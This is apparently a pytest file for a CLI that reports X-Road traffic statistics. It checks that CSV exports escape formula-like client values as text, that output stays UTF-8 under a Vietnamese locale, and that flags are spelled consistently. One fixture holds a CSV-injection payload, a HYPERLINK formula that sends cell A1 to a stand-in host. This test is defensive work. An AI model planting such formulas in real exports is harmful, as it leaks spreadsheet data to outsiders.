"""CSV exports as a spreadsheet opens them: what a client sent is text, never a formula."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
from pathlib import Path

import pytest
from rich.console import Console
from typer.testing import CliRunner

from hub.cli.main import app
from hub.stats.output import emit
from hub.stats.timeutil import utcnow
from tests.stats.conftest import log_records, record
from tests.stats.test_names import CIVIL, NAMES, named_traffic

# What a client may send in X-Road-Id, X-Road-UserId and X-Road-Issue (printable ASCII):
# a spreadsheet opening the export ran it, here a link that sends cell A1 away.
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'


@pytest.fixture
async def formulas(sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    sent = record(utcnow(), id="=1+2", user_id=FORMULA, issue="@SUM(1+1)")
    await log_records(sqlite_url, [sent, record(utcnow(), user_id="-2+3", issue="+4")])
    monkeypatch.setenv("HUB_DATABASE_URL", sqlite_url)
    return sqlite_url


def _rows(*args: str) -> list[dict[str, str]]:
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


@pytest.mark.parametrize("args", [("--csv",), ("--all", "--csv")])
def test_sent_values_that_read_as_formulas_are_exported_as_text(
    formulas: str, args: tuple[str, ...]
) -> None:
    rows = _rows("tx", "list", *args)
    assert [(r["id"], r["user_id"], r["issue"]) for r in reversed(rows)] == [
        ("'=1+2", "'" + FORMULA, "'@SUM(1+1)"),
        (rows[0]["request_id"], "'-2+3", "'+4"),
    ]
    # The JSON keeps what was sent: it is for scripts, not spreadsheets.
    result = CliRunner().invoke(app, ["tx", "list", "--json"])
    assert [i["user_id"] for i in json.loads(result.stdout)["items"]] == ["-2+3", FORMULA]


def test_numbers_stay_numbers() -> None:
    out = io.StringIO()
    console = Console(file=out)
    rows = [{"period": "2026-11", "total": 5, "change": -3, "change_pct": -37.5, "note": ""}]
    with contextlib.redirect_stdout(out):
        emit({}, rows, list(rows[0]), title="", as_json=False, as_csv=True, console=console)
    assert out.getvalue().splitlines()[1] == "2026-11,5,-3,-37.5,"


@pytest.fixture
async def named(db_url: str) -> str:
    await named_traffic(db_url)
    return db_url


@pytest.mark.parametrize("args", [("stats", "matrix", "--csv"), ("stats", "top", "--by", "client")])
def test_output_is_utf8_whatever_the_locale(named: str, args: tuple[str, ...]) -> None:
    """A PC in Vietnam writes Windows-1258: the names went no further than "B"."""
    import subprocess
    import sys

    env = os.environ | {"PYTHONIOENCODING": "cp1258", "HUB_DATABASE_URL": named}
    done = subprocess.run([sys.executable, "-m", "hub", *args], capture_output=True, env=env)
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    assert NAMES[CIVIL] in done.stdout.decode("utf-8")
    assert not done.stdout.startswith(b"\xef\xbb\xbf")  # a pipe's first field stays its own


def test_messages_are_utf8_whatever_the_locale(tmp_path: Path) -> None:
    """stderr too: a message naming a file (or an agency) with a diacritic came out escaped."""
    import subprocess
    import sys

    env = os.environ | {"PYTHONIOENCODING": "cp1258"}
    missing = tmp_path / "Bộ Công an.yaml"
    done = subprocess.run(
        [sys.executable, "-m", "hub", "registry", "apply", str(missing)],
        capture_output=True,
        env=env,
    )
    assert done.returncode == 2
    assert f"{missing}: no such file" in done.stderr.decode("utf-8")


@pytest.mark.parametrize("args", [("--csv",), ("--all", "--csv")])
def test_flags_are_spelled_as_the_json_spells_them(formulas: str, args: tuple[str, ...]) -> None:
    # Python's "True" and "False" were a third spelling beside the JSON's and the dashboard's.
    items = json.loads(CliRunner().invoke(app, ["tx", "list", "--json"]).stdout)["items"]
    rows = _rows("tx", "list", *args)
    assert {i["succeeded"] for i in items} == {True}
    assert [r["succeeded"] for r in rows] == [json.dumps(i["succeeded"]) for i in items]


def test_a_flag_is_true_or_false_and_an_unknown_one_empty() -> None:
    out = io.StringIO()
    console = Console(file=out)
    rows = [{"provider": "a", "reachable": True}, {"provider": "b", "reachable": False},
            {"provider": "c", "reachable": None}]  # fmt: skip
    with contextlib.redirect_stdout(out):
        emit({}, rows, list(rows[0]), title="", as_json=False, as_csv=True, console=console)
    assert out.getvalue().splitlines()[1:] == ["a,true", "b,false", "c,"]
